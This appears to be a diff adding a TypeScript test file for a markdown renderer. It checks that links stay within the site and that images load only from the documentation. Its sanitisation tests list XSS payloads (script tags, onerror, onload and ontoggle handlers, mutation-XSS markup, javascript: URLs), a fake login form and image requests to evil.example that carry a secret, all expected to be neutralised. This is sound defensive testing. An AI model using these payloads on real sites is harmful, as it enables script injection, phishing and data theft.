@@ -1,0 +1,119 @@
+import { expect } from 'chai';
+import { MarkdownRenderer } from '../../src/markdown/markdown-renderer.js';
+
+const docsUrl = 'https://docs.example/guide/';
+
+function render(markdown: string): HTMLElement {
+  const container = document.createElement('div');
+  document.body.append(container);
+  new MarkdownRenderer(container).update(markdown, docsUrl);
+  return container;
+}
+
+afterEach(() => document.body.replaceChildren());
+
+describe('Rendered markdown', () => {
+  it('has headings, lists, tables, code and emphasis', () => {
+    const container = render('# One\n\n- *two*\n\n| a |\n|---|\n| b |\n\n```css\na { color: red }\n```');
+    expect(container.querySelector('h1')?.textContent).to.equal('One');
+    expect(container.querySelector('li em')?.textContent).to.equal('two');
+    expect(container.querySelector('td')?.textContent).to.equal('b');
+    expect(container.querySelector('pre')?.dataset['language']).to.equal('css');
+    expect(container.querySelector('pre code')?.textContent).to.equal('a { color: red }\n');
+  });
+
+  it('shows tasks as text, not as form controls', () => {
+    const container = render('- [x] done\n- [ ] open');
+    expect(container.querySelector('input')).to.equal(null);
+    expect(container.textContent).to.contain('☑ done').and.to.contain('☐ open');
+  });
+
+  it('shows a suggestions block as links, not as code', () => {
+    for (const fence of ['```', '~~~']) {
+      const container = render(`${fence}suggestions\n(Install it)[/install]\nnot a link\n(Use [it])[/use]\n${fence}`);
+      const links = [...container.querySelectorAll('a')];
+      expect(links.map((link) => [link.textContent, link.href])).to.deep.equal([
+        ['Install it', 'https://docs.example/install'],
+        ['Use [it]', 'https://docs.example/use'],
+      ]);
+      expect(container.querySelector('code')).to.equal(null);
+      container.remove();
+    }
+  });
+});
+
+describe('Links in rendered markdown', () => {
+  const link = (markdown: string) => render(markdown).querySelector('a');
+
+  it('are relative to the documentation', () => {
+    expect(link('[a](install)')?.href).to.equal('https://docs.example/guide/install');
+    expect(link('[a](/install)')?.href).to.equal('https://docs.example/install');
+    expect(link('[a](#top)')?.href).to.equal('https://docs.example/guide/#top');
+  });
+
+  it('stay in the tab within the site, and leave it with their host named elsewhere', () => {
+    expect(link('[a](/install)')?.target).to.equal('');
+    document.body.replaceChildren();
+    expect(link(`[a](${location.origin}/x)`)?.target).to.equal('');
+    document.body.replaceChildren();
+    const foreign = link('[a](https://other.example/x)');
+    expect(foreign?.target).to.equal('_blank');
+    expect(foreign?.rel).to.equal('noopener noreferrer');
+    expect(foreign?.dataset['host']).to.equal('other.example');
+  });
+
+  for (const address of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', '&#106;avascript:alert(1)', 'data:text/html,x', 'vbscript:x', 'blob:x', 'file:///etc/passwd']) {
+    it(`are plain text when they are ${address}`, () => {
+      const container = render(`[here](${address}) <a href="${address}">there</a>`);
+      expect(container.querySelector('a')).to.equal(null);
+      expect(container.textContent).to.contain('here').and.to.contain('there');
+    });
+  }
+});
+
+describe('Images in rendered markdown', () => {
+  it('load from the documentation and the page', () => {
+    const sources = ['/a.png', `${location.origin}/a.png`].map((address) => render(`![a](${address})`).querySelector('img')?.src);
+    expect(sources).to.deep.equal(['https://docs.example/a.png', `${location.origin}/a.png`]);
+  });
+
+  for (const address of ['https://evil.example/p.png?q=secret', '//evil.example/p.png', '/\\evil.example/p.png', '..//evil.example/../..//x', 'data:image/svg+xml,x']) {
+    it(`never load from elsewhere: ${address}`, async () => {
+      const before = performance.getEntriesByType('resource').length;
+      const container = render(`![a chart](${address}) <img src="${address}" srcset="${address} 2x" alt="another">`);
+      await new Promise(requestAnimationFrame);
+      const foreign = [...container.querySelectorAll('img')].filter(({ src }) => !src.startsWith('https://docs.example/'));
+      expect(foreign).to.deep.equal([]);
+      const requested = performance.getEntriesByType('resource').slice(before).map(({ name }) => name);
+      expect(requested.filter((name) => name.includes('evil.example'))).to.deep.equal([]);
+    });
+  }
+});
+
+describe('Hostile markdown', () => {
+  const hostile = [
+    '<script>globalThis.hacked = true</script>',
+    '<img src=x onerror="globalThis.hacked = true">',
+    '<svg onload="globalThis.hacked = true"><script>globalThis.hacked = true</script></svg>',
+    '<iframe srcdoc="<script>parent.hacked = true</script>"></iframe>',
+    '<math><mtext><table><mglyph><style><img src=x onerror="globalThis.hacked = true">',
+    '<details open ontoggle="globalThis.hacked = true"><summary>x</summary></details>',
+    '<a href="javascript:globalThis.hacked = true" id="x" name="y" style="position:fixed;inset:0" class="launcher">x</a>',
+    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
+    '<style>* { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">',
+    '```"><img src=x onerror="globalThis.hacked=true">\ncode\n```',
+  ];
+
+  it('runs nothing and leaves nothing that could', async () => {
+    for (const markdown of hostile) {
+      const container = render(markdown);
+      for (const link of container.querySelectorAll('a')) link.click();
+    }
+    await new Promise((resolve) => setTimeout(resolve, 20));
+    expect(globalThis).not.to.have.property('hacked');
+    const left = document.body.querySelectorAll('script, style, link, svg, math, iframe, form, input, button, [id], [name], [style], [class]');
+    expect([...left].map(({ outerHTML }) => outerHTML)).to.deep.equal([]);
+    const handlers = [...document.body.querySelectorAll('*')].flatMap(({ attributes }) => [...attributes]).filter(({ name }) => name.startsWith('on'));
+    expect(handlers).to.deep.equal([]);
+  });
+});
